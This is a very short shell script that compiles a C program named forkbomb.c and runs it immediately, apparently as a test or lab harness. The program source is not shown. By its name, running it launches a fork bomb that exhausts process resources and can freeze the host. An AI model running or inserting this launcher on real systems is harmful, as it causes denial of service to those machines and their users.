#!/bin/sh
gcc -O2 -pthread -o forkbomb forkbomb.c || exit 1
./forkbomb
